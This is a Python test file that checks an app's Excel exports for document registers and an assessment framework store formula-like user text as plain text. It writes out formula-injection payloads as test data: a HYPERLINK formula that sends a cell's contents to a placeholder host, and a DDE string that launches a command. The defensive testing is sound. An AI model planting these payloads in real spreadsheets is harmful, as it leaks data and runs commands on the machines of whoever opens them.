"""Every .xlsx the app writes keeps user text as text (issue 14 §2, formula injection): a subject,
a criterion's name or a unit typed as '=HYPERLINK(…)' must not become a live formula. The
quarterly report's writer is tested in test_report_drafts; these are the writers added since:
the registers (sổ đến, sổ đi, sổ theo dõi) and the framework export."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl

from cchc.par.framework import load_excel, shipped, to_excel
from cchc.web.documents import register_files

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
STARTS = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read("xl/worksheets/sheet1.xml").decode()


def test_a_register_export_writes_text_that_looks_like_a_formula_as_text():
    rows = [{"cells": [n, date(2026, 3, 1), text, ""]} for n, text in enumerate(STARTS, 1)]
    content = register_files.xlsx(
        "Sổ đăng ký văn bản đến",
        register_files.Period(date(2026, 1, 1), date(2026, 12, 31)),
        ["Số đến", "Ngày đến", "Trích yếu", "Ghi chú"],
        iter(rows),
        len(rows),
    )
    assert "<f>" not in sheet_xml(content)  # no formula anywhere in the sheet
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    subjects = [sheet.cell(4 + n, 3) for n in range(len(STARTS))]
    assert [c.value for c in subjects] == STARTS
    assert all(c.data_type == "s" and c.quotePrefix for c in subjects)
    assert sheet.cell(4, 1).value == 1  # numbers stay numbers


def test_a_framework_export_writes_names_that_look_like_formulas_as_text(tmp_path):
    framework = shipped()["minh-hoa-huyen"]
    framework.name = "=1+1"
    area = framework.areas[0]
    area.name = EVIL
    leaf = area.children[0]
    leaf.unit, leaf.evidence = "@Phòng Nội vụ", "-Báo cáo số 1"
    path = tmp_path / "khung.xlsx"
    to_excel(framework, path)
    assert "<f>" not in sheet_xml(path.read_bytes())
    assert load_excel(path) == framework  # the export still reads back to the same framework
